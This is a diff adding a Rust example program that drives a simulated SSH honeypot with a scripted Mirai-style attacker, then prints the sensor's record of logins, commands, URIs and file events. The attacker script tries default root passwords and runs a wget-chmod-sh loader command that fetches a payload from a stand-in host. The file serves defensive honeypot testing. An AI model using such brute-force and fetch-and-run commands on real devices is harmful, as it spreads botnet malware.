@@ -1,0 +1,64 @@
+//! Drives the honeypot over the real SSH wire protocol: a scripted
+//! Mirai-style loader brute-forces a login, drops a payload and executes
+//! it, while the sensor records the session exactly as the bulk generator
+//! would.
+//!
+//! ```sh
+//! cargo run --release --example honeypot_wire
+//! ```
+
+use honeypot::wire::{run_wire_session, WireSessionMeta};
+use honeypot::AuthPolicy;
+use hutil::Date;
+use netsim::Ipv4Addr;
+use sshwire::ClientScript;
+
+fn main() {
+    // The "malware storage host" serves one loader script.
+    let store = |uri: &str| {
+        (uri == "http://203.0.113.5/bins.sh")
+            .then(|| b"#!/bin/sh\n./dvrHelper tcp 23\n".to_vec())
+    };
+
+    let meta = WireSessionMeta {
+        honeypot_id: 17,
+        honeypot_ip: Ipv4Addr::from_octets(100, 64, 3, 17),
+        client_ip: Ipv4Addr::from_octets(198, 51, 100, 77),
+        client_port: 40123,
+        start: Date::new(2022, 5, 10).at(4, 30, 0),
+    };
+    let script = ClientScript::new(
+        "root",
+        &["root", "admin"], // first attempt fails (root:root), second lands
+        &[
+            "uname -s -v -n -r -m",
+            "cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
+        ],
+    );
+
+    let (record, wire_bytes) =
+        run_wire_session(&meta, script, AuthPolicy::default(), &store).expect("dialogue runs");
+
+    println!("== wire dialogue complete: {wire_bytes} bytes exchanged ==");
+    println!("client version : {}", record.client_version.as_deref().unwrap_or("-"));
+    println!("login attempts :");
+    for l in &record.logins {
+        println!("  {}:{} -> {}", l.username, l.password, if l.success { "ACCEPT" } else { "reject" });
+    }
+    println!("commands:");
+    for c in &record.commands {
+        println!("  [{}] {}", if c.known { "known " } else { "unknown" }, c.input);
+    }
+    println!("uris recorded  : {:?}", record.uris);
+    println!("file events:");
+    for e in &record.file_events {
+        println!("  {:<24} {:?}", e.path, e.op);
+    }
+    println!(
+        "session class changes_state={} attempts_exec={} (duration {}s)",
+        record.changes_state(),
+        record.attempts_exec(),
+        record.duration_secs()
+    );
+    assert!(record.changes_state() && record.attempts_exec());
+}
